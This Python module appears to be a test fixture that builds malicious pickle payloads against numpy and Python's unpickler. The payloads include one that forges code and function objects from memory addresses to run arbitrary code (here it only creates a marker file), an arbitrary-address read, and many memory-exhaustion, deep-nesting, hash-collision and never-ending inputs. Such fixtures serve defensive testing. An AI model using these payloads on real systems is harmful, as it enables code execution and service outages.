"""Pickles that mean harm: each runs something, reads where it must not, takes all memory or never ends, if it is let."""

from __future__ import annotations

import pickle
import struct
import types
from pathlib import Path

COPY = b"I00\nI01\n"


def dtype(code: str, order: str = "|", flags: int = 0, new: bytes = COPY) -> bytes:
    """A dtype whose state is what the pickle says it is."""
    state = f"(I3\nV{order}\nNNNI-1\nI-1\nI{flags}\ntb".encode()
    return b"cnumpy\ndtype\n(V" + code.encode() + b"\n" + new + b"tR" + state


def object_at(address: int) -> bytes:
    """The Python object at an address, as an element of an array of objects that does not know it is one."""
    return b"cnumpy._core.multiarray\nscalar\n(" + dtype("O8") + b"C\x08" + struct.pack("<Q", address) + b"tR"


def code(mark: Path) -> bytes:
    """Finds the constructors of code and of functions in memory, and runs a line that makes the file `mark`."""
    c = compile(f"open({str(mark)!r}, 'w').close()", "x", "eval")
    fields = (
        c.co_argcount,
        c.co_posonlyargcount,
        c.co_kwonlyargcount,
        c.co_nlocals,
        c.co_stacksize,
        c.co_flags,
        c.co_code,
        c.co_consts,
        c.co_names,
        c.co_varnames,
        c.co_filename,
        c.co_name,
        c.co_qualname,
        c.co_firstlineno,
        c.co_linetable,
        c.co_exceptiontable,
        c.co_freevars,
        c.co_cellvars,
    )
    built = object_at(id(types.CodeType)) + pickle.dumps(fields, 3)[2:-1] + b"R"
    return b"\x80\x03" + object_at(id(types.FunctionType)) + b"(" + built + b"}tR)R."


def _itself() -> bytes:
    rows: list[object] = []
    rows += [rows, rows]
    return pickle.dumps(rows)


def _doubled(times: int) -> bytes:
    rows: list[object] = [1, 1]
    for _ in range(times):
        rows = [rows, rows]
    return pickle.dumps(rows)


def _wide(rows: int, columns: int) -> bytes:
    """Lists of `rows` times the same row."""
    return pickle.dumps([[1] * columns] * rows)


def _long(number: int) -> bytes:
    return pickle.dumps(number, 2)[2:-1]


COUNT = 300_000
ARRAY = b"cnumpy._core.numeric\n_frombuffer\n("
LONG = b"\x80\x02cnumpy\ndtype\nq\x00(" + b"N" * COUNT + b"tq\x01"
NEW_ARRAY = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I0\ntVb\ntR"


def attacks(mark: Path) -> dict[str, bytes]:
    """Each by its name; `mark` is the file that some would make."""
    return {
        "code": code(mark),
        "address": object_at(0x4141414141414141) + b".",
        "all floats turned round": dtype("f8", ">", new=b"") + b".",
        "itself": _itself(),
        "doubled": _doubled(30),
        "one row, many times": _wide(50_000, 50_000),
        "a gigabyte": b"cbuiltins\nbytearray\n(I1000000000\ntR.",
        "an array of three": ARRAY
        + b"cbuiltins\nbytearray\n(I3000000000\ntR"
        + dtype("u1")
        + b"(I50000\nI60000\ntVC\ntR.",
        "an array of nothing": ARRAY + b"C\x00" + dtype("u1") + b"(I9000000000\nI9000000000\ntVC\ntR.",
        "an array of few": NEW_ARRAY + b"(I1\n(I8000\nI8000\nt" + dtype("u1") + b"I00\nC\x01\x01tb.",
        "a negative array": NEW_ARRAY + b"(I1\n(I-1\nI-1\nt" + dtype("u1") + b"I00\nC\x01\x01tb.",
        "registered": b"\x80\x02\x82\x01.",
        "registered, far": b"\x80\x02\x84\x01\x00\x00\x00.",
        "outside": b"Pmask\n.",
        "outside, named": b"\x80\x02U\x04maskQ.",
        "made anew": b"\x80\x02cnumpy\nndarray\n)\x81.",
        "made of a class": b"(icollections\nOrderedDict\n.",
        "out of band": b"\x80\x05\x97.",
        "a place far away": b"\x80\x02Nr\xff\xff\xff\x7f.",
        "a function changed": b"cnumpy\ndtype\nN}V__code__\nNs\x86b.",
        "a list changed": b"]}V__class__\nNsb.",
        "keys that collide": b"\x80\x02}(" + b"".join(_long(n * (2**61 - 1)) + b"N" for n in range(90_000)) + b"u.",
        "a long tuple, again and again": LONG + b"h\x00h\x01R" * COUNT + b".",
        "deep": b"\x80\x02)" + b"\x85" * COUNT + b".",
        "marks": b"\x80\x02" + b"(" * COUNT + b".",
        "no end": b"\x80\x02" + b"N" * 15 * COUNT + b".",
    }
